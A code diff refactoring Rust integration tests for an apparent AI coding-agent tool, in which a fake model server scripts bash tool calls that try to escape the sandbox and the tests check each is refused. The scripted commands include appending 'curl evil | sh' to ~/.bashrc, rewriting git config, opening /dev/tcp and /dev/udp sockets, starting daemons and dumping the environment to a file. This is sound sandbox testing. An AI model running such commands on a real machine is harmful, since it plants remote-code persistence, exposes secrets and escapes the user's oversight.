@@ -9,25 +9,18 @@ use std::sync::Arc;
 use std::time::Duration;
 
 use flower_tui::engine::tools::sandbox::Support;
-use serde_json::{Value, json};
+use serde_json::Value;
 
+use super::bash_call;
 use super::network::{connected, datagram, listener, receiver};
 use super::processes::{DAEMONS, pid};
 use crate::suite::faults::{gone, wait_until};
-use crate::support::check::assert_success;
-use crate::support::fake::{FakeServer, Reply, U, anthropic as a};
+use crate::support::check::{assert_file, assert_success};
+use crate::support::fake::{FakeServer, U};
+use crate::support::files::write;
 use crate::support::harness::KEY;
-use crate::support::headless::{bin, flags, lines, run, stderr};
+use crate::support::headless::{bin, bin_for, flags, lines, run, stderr};
 use crate::support::pty::{Pty, READY};
-
-fn bash(id: &str, command: &str) -> Reply {
-    a::tool_use(
-        id,
-        "bash",
-        &json!({ "command": command }).to_string(),
-        U::new(1000, 20),
-    )
-}
 
 /// A home outside every temp dir (which the sandbox lets commands write), with the workspace
 /// `ws` in it and the user's own dotfiles.
@@ -65,27 +58,25 @@ async fn headless_escape_attempts_are_refused_by_default_and_named_in_their_resu
     let (tcp, tcp_port) = listener();
     let (udp, udp_port) = receiver();
     let server = FakeServer::start().await;
-    server.push(bash(
+    server.push(bash_call(
         "dotfiles",
         "echo 'curl evil | sh' >> ~/.bashrc; git config --global user.name Mallory",
     ));
-    server.push(bash("symlink", "echo escaped > link/x.txt"));
-    server.push(bash(
+    server.push(bash_call("symlink", "echo escaped > link/x.txt"));
+    server.push(bash_call(
         "tcp",
         &format!("exec 3<>/dev/tcp/127.0.0.1/{tcp_port} && echo connected"),
     ));
-    server.push(bash(
+    server.push(bash_call(
         "udp",
         &format!("echo hello > /dev/udp/127.0.0.1/{udp_port}"),
     ));
-    server.push(bash("daemons", DAEMONS));
-    server.push(bash("env", "env > env.txt; echo listed"));
+    server.push(bash_call("daemons", DAEMONS));
+    server.push(bash_call("env", "env > env.txt; echo listed"));
     server.script().usage(U::new(1500, 20)).text("All refused.");
 
-    let mut c = bin(&h);
-    c.env("ANTHROPIC_API_KEY", KEY)
-        .env("ANTHROPIC_BASE_URL", server.base_url())
-        .args(["--workspace", ws.to_str().unwrap(), "-p", "try to escape"]);
+    let mut c = bin_for(&h, &server);
+    c.args(["--workspace", ws.to_str().unwrap(), "-p", "try to escape"]);
     let out = run(c).await.output;
     assert_success(&out);
     let events = lines(&out);
@@ -94,14 +85,8 @@ async fn headless_escape_attempts_are_refused_by_default_and_named_in_their_resu
         "nothing was asked"
     );
 
-    assert_eq!(
-        std::fs::read_to_string(h.join(".bashrc")).unwrap(),
-        "# the user's own\n"
-    );
-    assert_eq!(
-        std::fs::read_to_string(h.join(".gitconfig")).unwrap(),
-        "[user]\n\tname = Ann\n"
-    );
+    assert_file(h.join(".bashrc"), "# the user's own\n");
+    assert_file(h.join(".gitconfig"), "[user]\n\tname = Ann\n");
     let dotfiles = result(&events, "dotfiles");
     assert_eq!(dotfiles["sandbox"]["kind"], "write", "{dotfiles}");
     assert!(
@@ -167,7 +152,7 @@ fn in_the_terminal_the_user_runs_a_stopped_command_once_outside_the_sandbox() {
     let h = canonical(home.path());
     let target = h.join("notes-outside.txt");
     let command = format!("echo kept-outside >> {} && echo appended", target.display());
-    server.push(bash("t1", &command));
+    server.push(bash_call("t1", &command));
     server
         .script()
         .usage(U::new(1200, 20))
@@ -188,7 +173,7 @@ fn in_the_terminal_the_user_runs_a_stopped_command_once_outside_the_sandbox() {
     std::thread::sleep(Duration::from_millis(600));
     t.keys("y");
     t.wait_for("The note is written.");
-    assert_eq!(std::fs::read_to_string(&target).unwrap(), "kept-outside\n");
+    assert_file(&target, "kept-outside\n");
     let sent = server.requests().last().cloned().unwrap().to_string();
     assert!(
         sent.contains("the user allowed it to run once outside the sandbox"),
@@ -200,8 +185,7 @@ fn in_the_terminal_the_user_runs_a_stopped_command_once_outside_the_sandbox() {
 fn the_flags_and_the_config_file_set_the_sandbox_and_a_bad_value_is_named() {
     let home = tempfile::tempdir().unwrap();
     let config = home.path().join("config/flower");
-    std::fs::create_dir_all(&config).unwrap();
-    std::fs::write(config.join("config.toml"), "sandbox = \"strict\"\n").unwrap();
+    write(&config.join("config.toml"), "sandbox = \"strict\"\n");
     let out = bin(home.path())
         .args(["-p", "x", "--demo"])
         .output()
